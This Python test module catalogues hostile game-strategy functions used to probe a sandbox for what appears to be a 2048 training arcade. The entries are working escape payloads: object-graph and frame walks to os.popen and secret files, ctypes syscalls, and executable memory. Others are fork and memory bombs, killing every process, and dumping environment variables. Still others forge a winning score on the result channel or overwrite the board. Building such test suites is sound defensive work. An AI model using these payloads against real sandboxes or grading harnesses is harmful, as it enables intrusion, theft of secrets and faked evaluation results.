"""Strategies that try to get out, by kind. CANARY, OUTBOX and PORT stand for a secret file, a folder, a loopback port.

Whatever one of them finds it tells by raising it or by answering with it: the text of an exception is the widest way
back there is.
"""

from __future__ import annotations

from dataclasses import dataclass
from textwrap import dedent


@dataclass(frozen=True)
class Attack:
    kind: str
    name: str
    source: str


ATTACKS: list[Attack] = []


def attacks(kind, **bodies):
    """Each body is what ``strategy(board)`` does; text before a line ``---`` goes above the function."""
    for name, body in bodies.items():
        above, _, inside = dedent(body).strip("\n").rpartition("\n---\n")
        lines = "\n".join("    " + line for line in inside.split("\n"))
        ATTACKS.append(Attack(kind, name, f"{above}\ndef strategy(board):\n{lines}\n    return 'W'\n"))


attacks(
    "object graph",
    subclasses_to_os="""
        for c in ().__class__.__base__.__subclasses__():
            if c.__name__ == '_wrap_close':
                raise Exception(c.__init__.__globals__['popen']('cat CANARY').read())
    """,
    subclasses_via_getattr="""
        b = getattr(getattr((), '__cla' + 'ss__'), '__ba' + 'se__')
        s = getattr(b, '__subcl' + 'asses__')()
        for c in s:
            if 'warn' in c.__name__:
                raise Exception(c()._module.__builtins__['open']('CANARY').read())
    """,
    file_loader="""
        for c in object.__subclasses__():
            if c.__name__ == 'FileLoader' or 'Loader' in c.__name__:
                try:
                    raise Exception(c('x', 'CANARY').get_data('CANARY'))
                except TypeError:
                    pass
    """,
    function_globals="""
        import heapq
        raise Exception(open.__self__.open('CANARY').read() if not hasattr(heapq, 'x') else heapq.merge.__globals__)
    """,
    builtins_of_own_function="raise Exception(strategy.__builtins__['open']('CANARY').read())",
    builtins_through_globals="raise Exception(strategy.__globals__['__builtins__']['__import__']('os').listdir('/'))",
    import_function_closure="""
        f = __builtins__['__import__']
        raise Exception(f.__globals__['os'].popen('cat CANARY').read())
    """,
    class_cell="""
        class A:
            def f(self): return __class__
        raise Exception(A().f().__base__.__subclasses__()[100].__init__.__globals__)
    """,
    code_replace="""
        def f(): pass
        f.__code__ = f.__code__.replace(co_names=('open',), co_consts=('CANARY',))
        f()
    """,
    function_type="""
        F = type(strategy)
        C = type(strategy.__code__)
        raise Exception(F(compile("open('CANARY').read()", 'x', 'eval'), {})())
    """,
    print_self="raise Exception(print.__self__.open('CANARY').read())",
    gc_walk="""
        import gc
        for o in gc.get_objects():
            if type(o).__name__ == 'module' and getattr(o, '__name__', '') == 'posix':
                fd = o.open('CANARY', 0)
                raise Exception(o.read(fd, 100))
    """,
    reduce_ex="""
        import copy
        class A:
            def __reduce_ex__(self, v):
                return (eval, ("open('CANARY').read()",))
        raise Exception(copy.copy(A()))
    """,
    setstate_sets_code="""
        import copy
        class A:
            def __reduce__(self):
                return (A, (), (None, {'__class__': int}))
        raise Exception(copy.deepcopy(A()))
    """,
)

attacks(
    "frames and tracebacks",
    traceback_frame="""
        try:
            1 / 0
        except Exception as e:
            f = e.__traceback__.tb_frame
            while f.f_back: f = f.f_back
            raise Exception(f.f_globals['os'].popen('cat CANARY').read())
    """,
    generator_frame="""
        g = (x for x in [1])
        f = g.gi_frame
        while f.f_back: f = f.f_back
        raise Exception(f.f_builtins['open']('CANARY').read())
    """,
    generator_running_frame="""
        def g():
            yield it.gi_frame.f_back.f_back.f_locals
        it = g()
        raise Exception(next(it))
    """,
    coroutine_frame="""
        async def c(): pass
        f = c().cr_frame
        raise Exception(f.f_builtins['open']('CANARY').read())
    """,
    async_generator_frame="""
        async def c(): yield 1
        raise Exception(c().ag_frame.f_globals)
    """,
    getframe="""
        import sys
        f = sys._getframe()
        while f.f_back: f = f.f_back
        raise Exception(str(f.f_globals))
    """,
    exception_context="""
        try:
            try: 1 / 0
            except Exception: [][1]
        except Exception as e:
            raise Exception(e.__context__.__traceback__.tb_next.tb_frame.f_locals)
    """,
    with_exit_traceback="""
        class W:
            def __enter__(self): return self
            def __exit__(self, a, b, tb):
                f = tb.tb_frame
                while f.f_back: f = f.f_back
                raise Exception(f.f_globals['os'].listdir('/'))
        with W(): 1 / 0
    """,
    seed_in_frames="""
        import sys
        f, seen = sys._getframe(), []
        while f:
            for v in list(f.f_locals.values()):
                seen.append(repr(v)[:200])
            f = f.f_back
        raise Exception(' '.join(seen)[:1500])
    """,
    locals_of_caller="""
        import inspect
        raise Exception(inspect.currentframe().f_back.f_locals)
    """,
    excepthook="""
        import sys
        sys.excepthook = lambda *a: open('OUTBOX/x', 'w').write('x')
        1 / 0
    """,
)

attacks(
    "format strings",
    format_class="raise Exception('{0.__class__.__base__.__subclasses__}'.format(()))",
    format_globals="raise Exception('{0.__globals__}'.format(strategy))",
    format_map="raise Exception('{x.__globals__[__builtins__]}'.format_map({'x': strategy}))",
    format_unbound="raise Exception(str.format('{0.__code__.co_consts}', strategy))",
    format_through_map="raise Exception(list(map('{0.__init__.__globals__}'.format, [Exception]))[0])",
    format_through_getattr="raise Exception(getattr('{0.__globals__}', 'format')(strategy))",
    format_nested="raise Exception('{0:{1.__globals__}}'.format(1, strategy))",
    string_formatter="""
        import string
        raise Exception(string.Formatter().format('{0.__globals__}', strategy))
    """,
    string_formatter_field="""
        import string
        raise Exception(string.Formatter().get_field('0.__globals__', (strategy,), {}))
    """,
    attrgetter="""
        import operator
        raise Exception(operator.attrgetter('__globals__')(strategy))
    """,
    attrgetter_dotted="""
        from operator import attrgetter
        raise Exception(attrgetter('real.__class__.__base__.__subclasses__')(1)())
    """,
    methodcaller="""
        import operator
        raise Exception(operator.methodcaller('__sub' + 'classes__')(object))
    """,
)

attacks(
    "metaclasses and patterns",
    wraps_updated_globals="""
        import functools
        class D:
            def update(self, other): raise Exception(str(other)[:500])
        class W: pass
        w = W()
        w.__globals__ = D()
        functools.wraps(strategy, updated=('__globals__',))(w)
    """,
    update_wrapper_assigned="""
        import functools
        class W: pass
        w = functools.update_wrapper(W(), strategy, assigned=('__globals__',), updated=())
        raise Exception(vars(w))
    """,
    type_of_type_match_args="""
        T = type(int)
        C = T('C', (), {'__match_args__': ('__globals__',)})
        match strategy:
            case C(g): raise Exception(g)
        raise Exception('built a class')
    """,
    match_args_in_class="""
        class M(type):
            def __instancecheck__(cls, x): return True
        class C(metaclass=M):
            __match_args__ = ('__globals__',)
        match strategy:
            case C(g): raise Exception(g['__builtins__'])
    """,
    match_format="""
        match '{0.__globals__}':
            case str(format=f): raise Exception(f(strategy))
    """,
    match_dunder_keyword="""
        match strategy:
            case object(__globals__=g): raise Exception(g)
    """,
    make_dataclass_code="""
        import dataclasses
        C = dataclasses.make_dataclass('C', [('x', 'int', dataclasses.field(default=1))], namespace={'__match_args__': ('__globals__',)})
        match strategy:
            case C(g): raise Exception(g)
    """,
    enum_functional_match_args="""
        import enum
        E = enum.Enum('E', {'__match_args__': ('__globals__',)})
        E.__match_args__ = ('__globals__',)
    """,
    prepare_and_init_subclass="""
        class B:
            def __init_subclass__(cls, **k): raise Exception(str(k))
        class C(B, x=strategy.__globals__): pass
    """,
    type_hints_eval="""
        import typing
        class C:
            x: "__import__('os').system('touch OUTBOX/hints')"
        typing.get_type_hints(C)
    """,
    forward_ref_eval="""
        import typing
        typing.ForwardRef("open('CANARY').read()")._evaluate({}, {}, frozenset())
    """,
    namedtuple_module="""
        import collections
        raise Exception(collections._sys.modules['os'].listdir('/'))
    """,
    singledispatch_registry="""
        import functools
        d = functools.singledispatch(lambda x: x)
        raise Exception(d.dispatch.__closure__[0].cell_contents)
    """,
    set_name_hook="""
        class D:
            def __set_name__(self, owner, name): owner.__class__ = int
        class C:
            d = D()
    """,
)

attacks(
    "module leaks",
    os_import="import os\nraise Exception(os.listdir('/'))",
    sys_modules="import sys\nraise Exception(sys.modules['os'].popen('cat CANARY').read())",
    random_os="import random\nraise Exception(random._os.popen('cat CANARY').read())",
    random_urandom="import random\nraise Exception(random.SystemRandom().random())",
    collections_abc_sys="import collections.abc\nraise Exception(collections.abc.sys.modules)",
    heapq_doc_module="import heapq\nraise Exception(heapq.__spec__.loader.get_data('CANARY'))",
    statistics_sys="import statistics\nraise Exception(statistics.sys.modules['posix'].listdir('/'))",
    dataclasses_builtins="import dataclasses\nraise Exception(dataclasses.builtins.open('CANARY').read())",
    enum_builtins="import enum\nraise Exception(enum.bltns.open('CANARY').read())",
    json_codecs="import json\nraise Exception(json.codecs.open('CANARY').read())",
    json_load_opener="import json\nraise Exception(json.decoder.scanner.re.copyreg)",
    re_copyreg="import re\nraise Exception(re.copyreg.sys.modules['os'].getcwd())",
    typing_sys="import typing\nraise Exception(typing.sys.modules['builtins'].open('CANARY').read())",
    importlib="import importlib\nraise Exception(importlib.import_module('os').getcwd())",
    subprocess="import subprocess\nraise Exception(subprocess.check_output(['cat', 'CANARY']))",
    pathlib_read="import pathlib\nraise Exception(pathlib.Path('CANARY').read_text())",
    arcade_itself="import grpo_arcade.games\nraise Exception(grpo_arcade.games.make('2048'))",
    unguarded_numpy="import numpy as np\nraise Exception(np.fromfile('CANARY', dtype='u1'))",
    guarded_os="""
        try:
            import os
            raise Exception(os.popen('cat CANARY').read())
        except ImportError:
            pass
    """,
    open_plain="raise Exception(open('CANARY').read())",
    open_write="open('OUTBOX/plain', 'w').write('x')",
    exec_plain="exec('import os; os.system(\"touch OUTBOX/exec\")')",
    eval_getattr="raise Exception(eval('op' + 'en')('CANARY').read())",
    input_read="raise Exception(input())",
    help_pager="help('modules')",
    unicode_identifier="raise Exception(ｏｐｅｎ('CANARY').read())",
)

attacks(
    "codecs and lazy imports",
    codecs_open="import codecs\nraise Exception(codecs.open('CANARY').read())",
    idna_codec="raise Exception('x'.encode('idna'))",
    punycode_codec="raise Exception('é'.encode('punycode'))",
    unknown_codec="raise Exception(b'x'.decode('../../OUTBOX'))",
    zip_codec="raise Exception(b'x'.decode('zlib_codec'))",
    mbcs_and_big5="raise Exception('x'.encode('big5'))",
    decimal_locale="return format(3.14, 'n')",
    string_case_tables="return 'ß'.casefold().center(10 ** 6).title()[:1]",
    memory_warning="import warnings\nwarnings.warn('x')\nwarnings.showwarning('a', UserWarning, 'OUTBOX/w', 1)",
    lazy_linecache="import linecache\nraise Exception(linecache.getline('CANARY', 1))",
    site_import="import site\nraise Exception(site.getusersitepackages())",
    zipimport="import zipimport\nzipimport.zipimporter('CANARY')",
    missing_module="""
        try:
            import surely_not_installed
        except ImportError:
            raise Exception('fine')
    """,
)

attacks(
    "ctypes and system calls",
    ctypes_open="""
        import ctypes
        libc = ctypes.CDLL(None)
        fd = libc.open(b'CANARY', 0)
        b = ctypes.create_string_buffer(100)
        libc.read(fd, b, 100)
        raise Exception(b.raw)
    """,
    ctypes_system="import ctypes\nctypes.CDLL(None).system(b'touch OUTBOX/system')",
    ctypes_execve="import ctypes\nctypes.CDLL(None).execl(b'/bin/sh', b'sh', b'-c', b'touch OUTBOX/exec', None)",
    syscall_open="""
        import ctypes
        n = ctypes.CDLL(None).syscall(2, b'CANARY', 0, 0)
        raise Exception(n)
    """,
    syscall_openat2="import ctypes\nraise Exception(ctypes.CDLL(None).syscall(437, -100, b'CANARY', 0, 0))",
    syscall_x32="import ctypes\nraise Exception(ctypes.CDLL(None).syscall(0x40000002, b'CANARY', 0))",
    syscall_io_uring="import ctypes\nraise Exception(ctypes.CDLL(None).syscall(425, 8, ctypes.create_string_buffer(200)))",
    syscall_ptrace_parent="import ctypes\nraise Exception(ctypes.CDLL(None).syscall(101, 16, 1, 0, 0))",
    syscall_process_vm_readv="import ctypes\nraise Exception(ctypes.CDLL(None).syscall(310, 1, 0, 0, 0, 0, 0))",
    syscall_socket="import ctypes\nraise Exception(ctypes.CDLL(None).socket(2, 1, 0))",
    syscall_prctl="import ctypes\nraise Exception(ctypes.CDLL(None).prctl(4, 1, 0, 0, 0))",
    syscall_setrlimit="import resource\nresource.setrlimit(resource.RLIMIT_AS, (-1, -1))",
    executable_memory="""
        import ctypes
        libc = ctypes.CDLL(None)
        libc.mmap.restype = ctypes.c_void_p
        p = libc.mmap(None, 4096, 7, 0x22, -1, 0)
        ctypes.memmove(p, bytes([0x31, 0xC0, 0xC3]), 3)
        raise Exception(ctypes.CFUNCTYPE(ctypes.c_int)(p)())
    """,
    executable_mprotect="""
        import ctypes
        libc = ctypes.CDLL(None)
        libc.mmap.restype = ctypes.c_void_p
        p = libc.mmap(None, 4096, 3, 0x22, -1, 0)
        libc.mprotect(ctypes.c_void_p(p), 4096, 5)
        raise Exception('executable')
    """,
    segfault="import ctypes\nctypes.string_at(1)",
    abort="import os\nos.abort()",
    wipe_interpreter="import ctypes\nctypes.memset(id(board), 255, 10 ** 6)",
    raw_loopback="""
        import socket
        s = socket.create_connection(('127.0.0.1', PORT))
        s.send(b'hello')
    """,
    udp_loopback="import socket\nsocket.socket(2, 2).sendto(b'x', ('127.0.0.1', PORT))",
    posix_open="import posix\nraise Exception(posix.read(posix.open('CANARY', 0), 100))",
    io_fileio="import _io\nraise Exception(_io.FileIO('CANARY').read())",
    dup_channel="import os\nraise Exception(os.dup(3))",
    stat_file="import os\nraise Exception(os.stat('CANARY').st_size)",
    mmap_file="import mmap\nmmap.mmap(3, 100)",
    proc_mem="import os\nraise Exception(os.pread(os.open('/proc/self/mem', 0), 8, 0))",
)

attacks(
    "forks, threads, signals",
    fork_bomb="import os\nwhile True: os.fork()",
    vfork_spawn="import os\nos.posix_spawn('/bin/true', ['true'], {})",
    thread_bomb="import _thread\nwhile True: _thread.start_new_thread(lambda: None, ())",
    thread_outlives="""
        import threading, time
        threading.Thread(target=lambda: time.sleep(100), daemon=True).start()
    """,
    multiprocessing="import multiprocessing\nmultiprocessing.Process(target=print).start()",
    kill_parent="import os\nos.kill(os.getppid(), 9)",
    kill_everyone="import os\nos.kill(-1, 9)",
    ignore_sigterm="import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True: pass",
    catch_alarm="import signal\nsignal.signal(signal.SIGALRM, lambda *a: None)\nsignal.alarm(1)",
    interval_timer="import signal\nsignal.setitimer(signal.ITIMER_REAL, 0.01)\nwhile True: pass",
    stop_self="import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
    sleep_for_ever="import time\ntime.sleep(10 ** 6)",
    lock_for_ever="import _thread\nlock = _thread.allocate_lock()\nlock.acquire()\nlock.acquire()",
    select_for_ever="import select\nselect.select([], [], [])",
    setsid_daemon="import os\nif os.fork() == 0:\n    os.setsid()\n    while True: pass",
    exit_now="import os\nos._exit(0)",
    system_exit="raise SystemExit(0)",
    keyboard_interrupt="raise KeyboardInterrupt",
    swallow_everything="""
        while True:
            try:
                while True: pass
            except BaseException: pass
    """,
    atexit_hook="import atexit\natexit.register(lambda: open('OUTBOX/atexit', 'w'))",
    finalizer="""
        class D:
            def __del__(self):
                while True: pass
        d = D()
        del d
    """,
)

attacks(
    "bombs",
    memory_list="x = []\nwhile True: x.append([0] * 10 ** 6)",
    memory_string="return 'x' * 10 ** 11",
    memory_bytearray="x = bytearray(10 ** 10)",
    memory_doubling="x = 'x'\nwhile True: x += x",
    memory_kept="""
        kept = []
        ---
        kept.append([0] * 10 ** 6)
        return 'WASD'[len(kept) % 4]
    """,
    big_integer="return 9 ** 9 ** 9",
    big_shift="return 1 << (1 << 40)",
    big_factorial="import math\nreturn math.factorial(10 ** 7)",
    big_comb="import math\nreturn math.comb(10 ** 7, 5 * 10 ** 6)",
    big_to_string="return str(1 << 10 ** 8)",
    big_hex="return hex(1 << 10 ** 8)",
    regex_bomb="import re\nreturn re.match('(a+)+$', 'a' * 60 + 'b')",
    regex_compile_bomb="import re\nreturn re.compile('(' * 99 + 'a' + '{1,99})' * 99)",
    sum_range="return sum(range(10 ** 15))",
    list_of_range="return list(range(10 ** 12))",
    itertools_product="import itertools\nreturn len(list(itertools.product(range(100), repeat=9)))",
    deque_infinite="import itertools, collections\ncollections.deque(itertools.count(), maxlen=0)",
    compile_time_fold="return 'x' * 4096 * 4096 * 4096",
    busy_loop="while True: pass",
    slow_every_move="x = 0\nfor i in range(10 ** 6): x += i\nreturn 'WASD'[x % 4]",
    load_time_loop="""
        while True: pass
        ---
        return 'W'
    """,
    decimal_bomb="import decimal\ndecimal.getcontext().prec = 10 ** 8\nreturn decimal.Decimal(2) ** 10 ** 9",
    fraction_bomb="import fractions\nx = fractions.Fraction(3, 7)\nwhile True: x = x * x + 1",
    finally_blowup="\n".join("    " * depth + "try: pass\n" + "    " * depth + "finally:" for depth in range(19))
    + "\n"
    + "    " * 19
    + "pass",
    sort_with_evil_compare="""
        class E:
            def __lt__(self, other):
                while True: pass
        sorted([E(), E()])
    """,
)

attacks(
    "deep recursion",
    plain="return strategy(board)",
    raised_limit="import sys\nsys.setrecursionlimit(10 ** 9)\ndef f(): f()\nf()",
    nested_repr="x = []\nfor _ in range(10 ** 6): x = [x]\nreturn repr(x)",
    nested_compare="a, b = [], []\nfor _ in range(10 ** 6): a, b = [a], [b]\nreturn a == b",
    nested_free="x = None\nfor _ in range(10 ** 6): x = (x,)\ndel x",
    nested_deepcopy="import copy\nx = []\nfor _ in range(10 ** 5): x = [x]\nreturn copy.deepcopy(x)",
    nested_map="x = iter([1])\nfor _ in range(10 ** 6): x = map(int, x)\nreturn next(x)",
    nested_chain="import itertools\nx = iter([1])\nfor _ in range(10 ** 6): x = itertools.chain(x)\nreturn next(x)",
    nested_partial="import functools\nf = int\nfor _ in range(10 ** 6): f = functools.partial(f)\nreturn f()",
    nested_json="import json\nreturn json.loads('[' * 10 ** 6)",
    nested_exceptions="""
        e = None
        while True:
            n = Exception()
            n.__cause__ = e
            e = n
    """,
    getattr_recursion="""
        class A:
            def __getattr__(self, n): return getattr(self, n + 'x')
        A().x
    """,
    nested_isinstance="t = int\nfor _ in range(10 ** 5): t = (t,)\nreturn isinstance('', t)",
    recursion_in_handler="""
        def f():
            try: f()
            finally: f()
        f()
    """,
)

attacks(
    "hostile answers",
    hash_that_loops="""
        class S(str):
            def __hash__(self):
                while True: pass
        return S('W')
    """,
    equal_to_everything="""
        class E:
            def __eq__(self, o): return True
            def __hash__(self): return hash('W')
        return E()
    """,
    class_that_lies="""
        class L:
            @property
            def __class__(self): raise SystemExit
        return L()
    """,
    str_that_raises="""
        class B(Exception):
            def __str__(self): raise KeyboardInterrupt
        raise B()
    """,
    str_that_loops="""
        class B(Exception):
            def __str__(self):
                while True: pass
        raise B()
    """,
    huge_error="raise Exception('x' * 10 ** 7)",
    control_characters="raise Exception('\\x1b[2J\\x1b]0;owned\\x07\\r\\n\\x00\\u202e' * 9)",
    surrogates="raise Exception('\\ud800' * 50)",
    negative="return -1",
    two_to_the_64="return 2 ** 64",
    truth="return True",
    nothing="return None",
    not_a_number="return float('nan')",
    generator="return (key for key in 'WASD')",
    self_containing="x = []\nx.append(x)\nreturn x",
    index_that_loops="""
        class I(int):
            def __index__(self):
                while True: pass
            def __int__(self):
                while True: pass
        return I(2)
    """,
    metaclass_name="return type('x', (), {})()",
    exception_group="raise ExceptionGroup('g' * 1000, [ValueError('x' * 1000) for _ in range(1000)])",
    stop_iteration="raise StopIteration('W')",
)

attacks(
    "protocol forgery",
    write_reply="""
        import os, struct
        os.write(3, struct.pack('<IHH', 1, 2, 0) + b'\\x00\\x00')
    """,
    write_winning_outcome="""
        import os
        os.write(3, b'{"outcome": "won", "score": 999999}' * 10)
    """,
    write_pickle="""
        import os
        os.write(3, b"cos\\nsystem\\n(S'touch OUTBOX/pickle'\\ntR.")
    """,
    write_huge_counts="import os, struct\nos.write(3, struct.pack('<IHH', 1, 65535, 65535))",
    flood="import os\nwhile True: os.write(3, b'\\xff' * 65536)",
    many_replies_ahead="""
        import os, struct
        for n in range(1, 1000): os.write(3, struct.pack('<IHH', n, 2, 0) + b'\\x02\\x02')
    """,
    read_own_channel="import os\nraise Exception(os.read(3, 100))",
    bad_action_byte="""
        import os, struct
        os.write(3, struct.pack('<IHH', 1, 2, 0) + b'\\xfa\\xfa')
        while True: pass
    """,
    patch_replier="""
        import sys
        m = sys.modules['sandbox.child']
        m.Channel.reply = lambda self, n, a, e: self.write(n)
    """,
    patch_marshal="import marshal\nmarshal.loads = lambda b: ([0, 1], [[], []])",
    patch_wire="""
        import sys
        sys.modules['sandbox.wire'].ILLEGAL = 0
        return 'anything'
    """,
    page_scribble="""
        import gc
        for o in gc.get_objects():
            if type(o) is memoryview or type(o).__name__ == 'Channel':
                try:
                    for i in range(8000): o.spent[i] = float('nan')
                    o.now[0] = 4000000000
                except Exception: pass
        while True: pass
    """,
    close_channel="import os\nos.close(3)",
    wrong_thread_state="import sys\nsys.setswitchinterval(1e9)\nsys.stdout.write('x')",
    renewed_move_clock="""
        import gc
        (channel,) = [o for o in gc.get_objects() if type(o).__name__ == 'Channel']
        while True: channel.now[1] = channel.now[1] + 1 & 0xffff
    """,
    trickling_reply="""
        import os, struct, time
        for byte in struct.pack('<IHH', 1, 2, 2000) + bytes(2) + b'x' * 2000:
            os.write(3, bytes([byte]))
            late = time.perf_counter() + 0.008
            while time.perf_counter() < late: pass
    """,
    answers_unread="""
        import os, struct
        for n in range(1, 10 ** 5): os.write(3, struct.pack('<IHH', n, 2, 0) + bytes([n % 4] * 2))
    """,
)

attacks(
    "mutation of the observation",
    clear="board.clear()",
    write_goal="""
        for row in board:
            for i in range(len(row)): row[i] = 2048
        return 'D'
    """,
    replace_rows="board[:] = [[1024, 1024, 0, 0]] * 4\nreturn 'A'",
    self_reference="board[0] = board\nreturn 'A'",
    grow="board.extend(board * 10 ** 5)\nreturn 'A'",
    delete_global="global strategy\ndel strategy",
    remember_and_restore="""
        first = []
        ---
        if not first: first.append(board)
        first[0][0][0] = 2048
        return 'WASD'[len(first[0]) % 4]
    """,
)

# The part above the line runs once per game; what it finds there another game has left.
attacks(
    "state across games",
    module_attribute="""
        import math
        math.games = getattr(math, 'games', 0) + 1
        if math.games > 1: raise Exception('leaked state')
        ---
        return 'A'
    """,
    setattr_on_module="""
        import heapq
        if hasattr(heapq, 'seen'): raise Exception('leaked state')
        setattr(heapq, 'seen', True)
        ---
        return 'A'
    """,
    attribute_on_library_function="""
        import heapq
        merge = [heapq.merge][0]
        if hasattr(merge, 'seen'): raise Exception('leaked state')
        merge.seen = True
        ---
        return 'A'
    """,
    alias_of_library_class="""
        from collections import Counter
        C = Counter
        if hasattr(C, 'seen'): raise Exception('leaked state')
        C.seen = True
        ---
        return 'A'
    """,
    setattr_on_library_class="""
        from collections import Counter
        if hasattr(Counter, 'seen'): raise Exception('leaked state')
        setattr(Counter, 'seen', True)
        ---
        return 'A'
    """,
    builtins_variable="""
        if 'seen' in __builtins__: raise Exception('leaked state')
        __builtins__['seen'] = True
        ---
        return 'A'
    """,
    builtin_replaced="""
        if len([]) == 7: raise Exception('leaked state')
        def len(x): return 7
        ---
        return 'A'
    """,
    random_state="""
        import random
        if random.getstate()[1][0] == 5: raise Exception('leaked state')
        random.setstate((3, (5,) * 624 + (624,), None))
        ---
        return 'A'
    """,
    random_class="""
        import random
        if hasattr(random.Random, 'seen'): raise Exception('leaked state')
        R = (random.Random,)[0]
        R.seen = True
        ---
        return 'A'
    """,
    attribute_of_builtin="""
        if hasattr(print, 'seen'): raise Exception('leaked state')
        print.seen = True
        ---
        return 'A'
    """,
    attribute_of_type="""
        if hasattr(type, 'seen'): raise Exception('leaked state')
        type.seen = True
        ---
        return 'A'
    """,
    hidden_library_class="""
        from collections import Counter
        if hasattr(Counter, 'seen'): raise Exception('leaked state')
        [Counter][0].seen = True
        ---
        return 'A'
    """,
    library_class_as_argument="""
        import fractions
        def mark(kind): kind.seen = True
        if hasattr(fractions.Fraction, 'seen'): raise Exception('leaked state')
        mark(fractions.Fraction)
        ---
        return 'A'
    """,
    library_constant="""
        import dataclasses
        if hasattr(dataclasses.MISSING, 'seen'): raise Exception('leaked state')
        [dataclasses.MISSING][0].seen = True
        ---
        return 'A'
    """,
    abstract_registration="""
        from collections.abc import Hashable
        if isinstance([], Hashable): raise Exception('leaked state')
        Hashable.register(list)
        ---
        return 'A'
    """,
    overload_registry="""
        import typing
        def turn(): pass
        if typing.get_overloads(turn): raise Exception('leaked state')
        typing.overload(turn)
        ---
        return 'A'
    """,
    enum_members="""
        import re
        if 'seen' in re.RegexFlag._member_map_: raise Exception('leaked state')
        re.RegexFlag._member_map_['seen'] = True
        ---
        return 'A'
    """,
    decimal_context="""
        import decimal
        if decimal.getcontext().prec == 77: raise Exception('leaked state')
        decimal.getcontext().prec = 77
        ---
        return 'A'
    """,
    cached_across_games="""
        from functools import lru_cache
        calls = []
        @lru_cache(maxsize=None)
        def once(x):
            calls.append(x)
            return len(calls)
        if once(1) != 1: raise Exception('leaked state')
        ---
        return 'A'
    """,
)

attacks(
    "clock and seed guessing",
    clock="import time\nraise Exception(time.time())",
    urandom="import os\nraise Exception(os.urandom(8).hex())",
    seed_from_state="""
        import random
        for seed in range(2000):
            if random.Random(seed).random() == random.random(): raise Exception(f'learnt {seed}')
    """,
    reseed_and_predict="""
        import random
        random.seed(0)
        empty = [(r, c) for r in range(4) for c in range(4) if not board[r][c]]
        return 'WASD'[empty.index(random.choice(empty)) % 4]
    """,
    id_as_entropy="return 'WASD'[id(board) // 16 % 4]",
    hash_as_entropy="return 'WASD'[hash(str(board)) % 4]",
    set_order_as_entropy="return list({'W', 'A', 'S', 'D', None})[0] or 'W'",
    datetime_now="import datetime\nraise Exception(datetime.datetime.now())",
    pid="import os\nraise Exception(os.getpid())",
    big_integers_in_memory="""
        import gc
        found = [repr(o) for o in gc.get_objects() if type(o) is dict for o in o.values() if type(o) is int and o > 2 ** 32]
        raise Exception(' '.join(found)[:1500])
    """,
    environment="import os\nraise Exception(str(dict(os.environ)) + str(os.sys.argv))",
)
